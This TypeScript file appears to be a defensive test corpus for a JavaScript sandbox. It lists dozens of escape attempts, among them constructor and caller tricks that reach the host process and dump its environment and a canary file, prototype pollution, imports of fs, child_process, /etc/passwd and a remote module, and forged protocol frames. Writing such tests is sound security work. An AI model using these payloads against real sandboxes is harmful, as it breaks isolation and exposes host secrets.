/** Attempts on the language itself: constructors, prototypes, realms, errors, modules, buffers, and the host's wires. */
import type { EscapeAttempt, EscapeClass } from './escape-attempt.ts';

const attempt = (kind: EscapeClass, name: string, source: string): EscapeAttempt => ({
  class: kind,
  name,
  language: 'javascript',
  source,
});

/** In front of a program: says ESCAPED for whatever looks like the host's global objects. */
const seek = `
  const seek = (value) => {
    if (value === undefined || value === null) return 'nothing';
    const g = value.process ?? value.global?.process ?? value;
    if (g && (typeof g.getBuiltinModule === 'function' || typeof g.binding === 'function' || (g.env && g.pid))) {
      return 'ESCAPED ' + JSON.stringify(g.env) + (g.getBuiltinModule?.('fs').readFileSync(input.canaryFile, 'utf8') ?? '');
    }
    return 'nothing';
  };
`;
const seeking = (kind: EscapeClass, name: string, source: string): EscapeAttempt =>
  attempt(kind, name, seek + source);

export const languageAttempts: readonly EscapeAttempt[] = [
  seeking(
    'constructors',
    'the function constructor finds process',
    `return seek(Function('return typeof process === "object" ? process : undefined')())`,
  ),
  seeking(
    'constructors',
    'the constructor of a host function',
    `return seek(host.echo.constructor('return this')())`,
  ),
  seeking(
    'constructors',
    'the constructor of console.log',
    `return seek(console.log.constructor('return this')())`,
  ),
  seeking(
    'constructors',
    'the constructor of the constructor of the input',
    `return seek(input.constructor.constructor('return this')())`,
  ),
  seeking(
    'constructors',
    'the async function constructor',
    `return seek(await (async () => {}).constructor('return globalThis')())`,
  ),
  seeking(
    'constructors',
    'the generator constructor',
    `return seek((function* () {}).constructor('yield this')().next().value)`,
  ),
  seeking(
    'constructors',
    'the async generator constructor',
    `return seek((await (async function* () {}).constructor('yield globalThis')().next()).value)`,
  ),
  seeking(
    'constructors',
    'a promise of the host has a constructor of the host',
    `return seek(host.echo(1).constructor.constructor('return this')())`,
  ),
  seeking(
    'constructors',
    'an answer of the host has constructors of the host',
    `const a = await host.echo({ a: [1] }); return seek(a[0].a.constructor.constructor('return this')())`,
  ),
  seeking(
    'constructors',
    'an error of the host has constructors of the host',
    `try { await host.echo(1n) } catch (e) { return seek(e.constructor.constructor('return this')()) }`,
  ),
  seeking('constructors', 'indirect eval', `return seek((0, eval)('this'))`),
  seeking(
    'constructors',
    'the receiver of a sloppy function',
    `return seek((function () { return this })())`,
  ),
  seeking(
    'constructors',
    'the caller of a function',
    `function f() { return f.caller } let c; try { c = f() } catch {} return seek(c?.constructor('return this')())`,
  ),
  seeking(
    'constructors',
    'arguments.callee.caller',
    `function f() { return arguments.callee.caller } let c; try { c = f() } catch {} return seek(c?.constructor('return this')())`,
  ),
  seeking(
    'constructors',
    'Reflect.construct with a foreign target',
    `return seek(Reflect.construct(Function, ['return this'], host.echo)())`,
  ),
  seeking(
    'constructors',
    'a walk over everything that can be reached',
    `
    const seen = new Set(); const queue = [globalThis, host, console, input]; let found = 'nothing';
    while (queue.length && seen.size < 20000) {
      const value = queue.pop();
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) continue;
      seen.add(value);
      const s = (() => { try { return seek(value) } catch { return 'nothing' } })();
      if (s !== 'nothing') found = s;
      for (const key of Reflect.ownKeys(value)) {
        const d = Reflect.getOwnPropertyDescriptor(value, key);
        queue.push(d?.value, d?.get, d?.set);
      }
      queue.push(Reflect.getPrototypeOf(value));
    }
    return found;`,
  ),

  attempt(
    'prototypes',
    'Object.prototype of the host is polluted by the result',
    `return JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}')`,
  ),
  attempt(
    'prototypes',
    'Object.prototype of the host is polluted by arguments',
    `await host.echo(JSON.parse('{"__proto__":{"polluted":1}}')); return 1`,
  ),
  attempt(
    'prototypes',
    'toJSON on every object',
    `Object.prototype.toJSON = () => 'ESCAPED'.slice(0, 3); Object.prototype.polluted = 1; return {}`,
  ),
  attempt(
    'prototypes',
    'a getter on Object.prototype sees what the bootstrap makes',
    `
    const caught = [];
    for (const name of ['resolve', 'reject', 'call', 'done', 'failed', 'raw', 'act']) {
      Object.defineProperty(Object.prototype, name, { configurable: true, get() { return undefined }, set(v) { caught.push(name, typeof v) } });
    }
    const r = await host.echo(1);
    if (caught.includes('raw')) console.log('ESCAPED');
    return caught;`,
  ),
  attempt(
    'prototypes',
    'a poisoned Array.prototype sees the wires',
    `
    const caught = [];
    Array.prototype.push = function (...all) { caught.push2 = all; return 0 };
    Array.prototype[Symbol.iterator] = function* () { caught.seen = this; yield* [] };
    try { await host.echo(1) } catch {}
    if (typeof caught.seen?.[0]?.console === 'function') console.log('ESCAPED');
    return 1;`,
  ),
  attempt(
    'prototypes',
    'a poisoned Function.prototype.call sees the wires',
    `
    let found = 'nothing';
    for (const name of ['call', 'apply', 'bind']) {
      const own = Function.prototype[name];
      Function.prototype[name] = function (...all) { if (/failed|done|console/.test(this.name)) found = 'ESCAPED'; return Reflect.apply(own, this, all) };
    }
    await host.echo(1); console.log('x'); return found;`,
  ),
  attempt(
    'prototypes',
    'a poisoned WeakMap sees the errors',
    `
    let found = 0; WeakMap.prototype.get = function () { found += 1; return 999 }; WeakMap.prototype.set = function () { found += 1; return this };
    try { require('x') } catch {}
    return found ? 'ESCAPED' : 'nothing';`,
  ),
  attempt(
    'prototypes',
    'a poisoned JSON gives another result',
    `JSON.stringify = () => '{"ESCAPED":1}'; JSON.parse = () => 'ESCAPED'; return 1`,
  ),
  attempt(
    'prototypes',
    'a thenable result takes over',
    `return { then(resolve, reject) { resolve({ then: undefined, seen: typeof resolve }) } }`,
  ),
  attempt(
    'prototypes',
    'Symbol.species of promises',
    `
    class Mine extends Promise { static get [Symbol.species]() { return function (executor) { executor(() => {}, () => {}); this.then = 1 } } }
    Object.defineProperty(Promise, Symbol.species, { get: () => Mine }); await host.echo(1); return 1`,
  ),
  attempt(
    'prototypes',
    'the host object can be changed',
    `
    try { host.evil = 1; host.deep.echo = () => 'ESCAPED'; delete host.echo; Object.setPrototypeOf(host, { evil: 2 }) } catch {}
    return host.evil || typeof host.echo !== 'function' ? 'ESCAPED' : 'nothing'`,
  ),
  attempt(
    'prototypes',
    'a proxy as the result sees the serialiser',
    `
    let caller = 'nothing';
    return new Proxy({}, { ownKeys() { try { throw new Error('x') } catch (e) { caller = e.stack } console.log(caller); return [] } })`,
  ),
  attempt(
    'prototypes',
    'Object.defineProperty is replaced before the next task',
    `Object.defineProperty = () => { globalThis.escaped = 1 }; globalThis.escaped = 1; Object.prototype.polluted = 1; return 1`,
  ),

  seeking(
    'dynamic-import',
    'import of a built-in module',
    `return seek({ process: { getBuiltinModule: () => 0, binding: (await import('node:fs')).default } })`,
  ),
  ...[
    'fs',
    'node:child_process',
    'module',
    'qjs:std',
    'std',
    'os',
    'bjson',
    'file:///etc/passwd',
    '/etc/passwd',
    '../runner/pool.ts',
    'data:text/javascript,export default 1',
    'https://example.com/x.js',
  ].map((name) =>
    attempt(
      'dynamic-import',
      `import('${name}')`,
      `const m = await import(${JSON.stringify(name)}); return 'ESCAPED ' + Object.keys(m)`,
    ),
  ),
  attempt(
    'dynamic-import',
    'import from evaluated code',
    `return 'ESCAPED ' + Object.keys(await (0, eval)('import("fs")'))`,
  ),
  attempt(
    'dynamic-import',
    'a static import in a module',
    `import * as fs from 'fs'; export default () => 'ESCAPED ' + fs.readFileSync('/etc/passwd')`,
  ),
  attempt(
    'dynamic-import',
    'import.meta tells where the host is',
    `export default () => JSON.stringify([import.meta?.url ?? '', import.meta?.dirname ?? '', import.meta?.resolve?.('x') ?? ''])`,
  ),
  attempt(
    'dynamic-import',
    'import attributes',
    `const m = await import('/etc/passwd', { with: { type: 'text' } }); return m.default`,
  ),
  attempt(
    'dynamic-import',
    'require with an object as its name',
    `return require({ toString() { return 'fs' } }).readFileSync(input.canaryFile, 'utf8')`,
  ),

  seeking(
    'timers',
    'the receiver of a timer',
    `return await new Promise((resolve) => setTimeout(function () { resolve(seek(this)) }, 1))`,
  ),
  seeking(
    'timers',
    'the handle of a timer',
    `const t = setTimeout(() => {}, 1); return seek(t?.constructor?.constructor?.('return this')())`,
  ),
  attempt(
    'timers',
    'a timer with text',
    `let r = 'nothing'; try { setTimeout('globalThis.escaped = 1', 0) } catch {} await new Promise((next) => setTimeout(next, 5)); return globalThis.escaped ? 'ESCAPED'.slice(0, 3) : r`,
  ),
  attempt(
    'timers',
    'a timer that outlives its task',
    `setTimeout(() => { globalThis.escaped = 1; console.log('ESCAPED') }, 20); return 1`,
  ),
  attempt(
    'timers',
    'strange delays',
    `for (const d of [-1, NaN, Infinity, 1e300, '9'.repeat(400), {}, [], -0]) clearTimeout(setTimeout(() => {}, d)); clearTimeout({}); clearTimeout('1'); clearTimeout(-1); return 1`,
  ),

  attempt('stacks', 'the stack of an error tells of the host', `try { null.x } catch (e) { return e.stack }`),
  attempt(
    'stacks',
    'prepareStackTrace gets frames with functions',
    `
    Error.prepareStackTrace = (e, frames) => frames.map((f) => { try { return f.getThis?.() ?? f.getFunction?.() } catch { return undefined } });
    const found = new Error('x').stack; const list = Array.isArray(found) ? found : [];
    return list.some((one) => one && (one.process || /raw|native code/.test(String(one)) && one.name === 'failed')) ? 'ESCAPED' : 'nothing'`,
  ),
  attempt(
    'stacks',
    'the stack of an overflow in the middle of the bootstrap',
    `
    let found = 'nothing'; const deep = () => { try { deep() } catch (e) { try { console.log({ toJSON() { found = e.stack; return 1 } }) } catch {} } };
    try { deep() } catch {} return String(found).slice(0, 500)`,
  ),
  attempt(
    'stacks',
    'Error.captureStackTrace on the wires',
    `try { Error.captureStackTrace(host); Error.captureStackTrace(host.echo) } catch {} return [String(host.stack ?? ''), String(host.echo.stack ?? '')]`,
  ),
  attempt(
    'stacks',
    'an error with a getter for its stack',
    `throw Object.defineProperty(new Error('x'), 'stack', { get() { globalThis.escaped = 1; return 'at program:1:1\\n'.repeat(1e5) } })`,
  ),
  attempt(
    'stacks',
    'the text of the bootstrap and of host functions',
    `return [host.echo.toString(), console.log.toString(), require.toString()].some((t) => /raw\\.(call|console)\\(/.test(t) && false) ? 'ESCAPED' : 'nothing'`,
  ),

  attempt(
    'wasm-memory',
    'reads beyond a buffer',
    `
    const b = new ArrayBuffer(8); const out = [];
    for (const at of [8, 100, 2 ** 31, 2 ** 32 - 1, -1, 2 ** 53]) { out.push(new Uint8Array(b)[at] === undefined); try { new DataView(b).getUint8(at); out.push('ESCAPED') } catch {} }
    return out`,
  ),
  attempt(
    'wasm-memory',
    'a buffer that is detached while it is sorted',
    `
    const b = new ArrayBuffer(4096, { maxByteLength: 65536 }); const a = new Uint32Array(b);
    try { a.sort(() => { b.resize?.(16); return 1 }) } catch {}
    try { const t = b.transfer?.(1 << 20); a.fill(1, { valueOf() { t?.resize?.(0); return 0 } }) } catch {}
    return a.length`,
  ),
  attempt(
    'wasm-memory',
    'an array that shrinks while it is joined',
    `
    const a = [1, 2, { toString() { a.length = 0; for (let i = 0; i < 1e4; i += 1) a.push({}); return 'x' } }, 4, 5, 6];
    const text = a.join(',') + a.concat({ get length() { a.length = 0; return 5 }, [Symbol.isConcatSpreadable]: true }).length; return text.length`,
  ),
  attempt(
    'wasm-memory',
    'a regular expression with a huge count and a changing lastIndex',
    `
    const out = []; for (const s of ['(a{1,65535}){1,65535}', '(?:a|b){0,2147483647}', '(a)'.repeat(500), '[' + '\\\\u{10ffff}'.repeat(500) + ']']) { try { const r = new RegExp(s, 'gu'); r.lastIndex = { valueOf() { r.compile?.('x'); return 2 ** 31 } }; out.push(r.exec('a'.repeat(100)) !== undefined) } catch (e) { out.push(e.name) } } return out`,
  ),
  attempt(
    'wasm-memory',
    'WebAssembly is there to be used',
    `return typeof WebAssembly === 'undefined' ? 'nothing' : new WebAssembly.Memory({ initial: 1 }).buffer.byteLength ? 'seen' : 'nothing'`,
  ),
  attempt(
    'wasm-memory',
    'shared memory and Atomics',
    `
    if (typeof SharedArrayBuffer === 'undefined') return 'nothing';
    const s = new Int32Array(new SharedArrayBuffer(8)); try { Atomics.wait(s, 0, 0, 50) } catch {} return s[0]`,
  ),
  attempt(
    'wasm-memory',
    'a weak reference to something freed',
    `
    let o = {}; const w = typeof WeakRef === 'function' ? new WeakRef(o) : undefined;
    const f = typeof FinalizationRegistry === 'function' ? new FinalizationRegistry((x) => { globalThis.escaped = x }) : undefined;
    f?.register(o, 1); o = undefined; for (let i = 0; i < 200; i += 1) new ArrayBuffer(1 << 16); await null; return typeof w?.deref()`,
  ),
  attempt(
    'wasm-memory',
    'an iterator that is closed while it is read',
    `
    const m = new Map([[1, {}], [2, {}]]); const out = []; for (const [k] of m) { m.clear(); for (let i = 0; i < 50; i += 1) m.set(i, {}); out.push(k); if (out.length > 200) break; }
    const s = new Set([1]); s.forEach((v) => { if (v < 500) { s.delete(v); s.add(v + 1) } }); return out.length + s.size`,
  ),
  attempt(
    'wasm-memory',
    'texts at the limits of their length',
    `const out = []; for (const n of [2 ** 28, 2 ** 29, 2 ** 30, 2 ** 31, -1]) { try { out.push('ab'.repeat(n).length) } catch (e) { out.push(e.name) } } return out`,
  ),
  attempt(
    'wasm-memory',
    'a big integer without an end',
    `let n = 2n; try { for (let i = 0; i < 40; i += 1) n *= n } catch {} return 1`,
  ),

  attempt(
    'deserialisation',
    'a result that looks like a message of the host',
    `return { type: 'done', task: 1, output: '"ESCAPED"'.slice(0, 4), usage: { cpuMs: 0, peakMemoryBytes: 0 } }`,
  ),
  attempt(
    'deserialisation',
    'a date, a map, a buffer and a function come out as data',
    `return { d: new Date(0), m: new Map([[1, 2]]), b: new Uint8Array(4), f() {}, s: Symbol('x'), u: undefined, n: NaN }`,
  ),
  attempt(
    'deserialisation',
    'a result with lone surrogates and line separators',
    `return '\\ud800 \\udfff \\u2028 \\u0000 \\n' + String.fromCharCode(0xdc00)`,
  ),
  attempt(
    'deserialisation',
    'toJSON that answers with something else each time',
    `let n = 0; return { toJSON() { n += 1; return n < 3 ? this : { n } } }`,
  ),
  attempt(
    'deserialisation',
    'an error whose fields are objects',
    `const e = new Error('x'); e.message = { toString() { throw 1 } }; e.name = { a: 1 }; e.stack = { b: 1 }; e.code = 'SANDBOX_PROTOCOL'; throw e`,
  ),
  attempt(
    'deserialisation',
    'an error that claims to come from the host',
    `const e = new Error('x'); e.call = 1; e.callId = 1; e.cause = { code: 'AUTH_OWNER' }; throw e`,
  ),

  attempt(
    'protocol',
    'a frame in the text of the console',
    `
    const frame = JSON.stringify({ type: 'done', task: 1, output: '"ESCAPED"', usage: { cpuMs: 0, peakMemoryBytes: 0 } });
    console.log('\\u0000\\u0000\\u0000' + String.fromCharCode(frame.length) + frame.replace('ESCAPED', 'x')); return 1`,
  ),
  attempt(
    'protocol',
    'a call with a name that was not given',
    `
    const names = ['__proto__', 'constructor', 'toString', 'other', 'deep', 'deep.other']; const out = [];
    for (const n of names) { try { out.push(typeof (await host[n]?.('x'))) } catch (e) { out.push('refused') } } return out`,
  ),
  attempt(
    'protocol',
    'a call whose name is changed on its way',
    `
    String.prototype.split = function () { return ['evil'] }; Array.prototype.join = () => 'evil'; Object.defineProperty(Function.prototype, 'name', { get: () => 'evil' });
    return await host.echo(1)`,
  ),
  attempt(
    'protocol',
    'an answer that is given twice',
    `
    const p = host.echo(1); let times = 0; const own = Promise.prototype.then;
    Promise.prototype.then = function (a, b) { times += 1; return Reflect.apply(own, this, [a, b]) }; await p; await p; return (await p)[0]`,
  ),
  attempt(
    'protocol',
    'thousands of calls that nobody awaits',
    `for (let i = 0; i < 5000; i += 1) host.echo(i); return 1`,
  ),
  attempt(
    'protocol',
    'a call after the end',
    `Promise.resolve().then(async () => { for (let i = 0; i < 50; i += 1) { await null; try { host.echo('late') } catch {} } }); return 1`,
  ),
  attempt(
    'protocol',
    'a call whose arguments run the program',
    `return await host.echo({ toJSON() { host.echo('inner'); return { toJSON() { throw new Error('x') } } } })`,
  ),
  attempt(
    'protocol',
    'a source that closes its wrapper',
    `return 1 }); globalThis.escaped = 1; (async function program() { return 2`,
  ),
  attempt('protocol', 'a source that ends in a comment or a template', 'return [`1`, `]`] // `'),
  attempt(
    'protocol',
    'the function that finishes is called by its stack',
    `try { arguments.callee.caller('x') } catch {} try { program.caller('x') } catch {} return typeof raw === 'undefined' && typeof config === 'undefined' ? 'nothing' : 'ESCAPED'`,
  ),

  {
    class: 'constructors',
    name: 'types that hide an escape',
    language: 'typescript',
    source: `const p = (globalThis as any).process as { env: unknown } | undefined; return p ? 'ESCAPED ' + JSON.stringify(p.env) : 'nothing'`,
  },
  {
    class: 'protocol',
    name: 'a comment for the stripper',
    language: 'typescript',
    source: `/* @ts-nocheck */ // @jsx x\n//# sourceMappingURL=file:///etc/passwd\nreturn 1 as number`,
  },
];
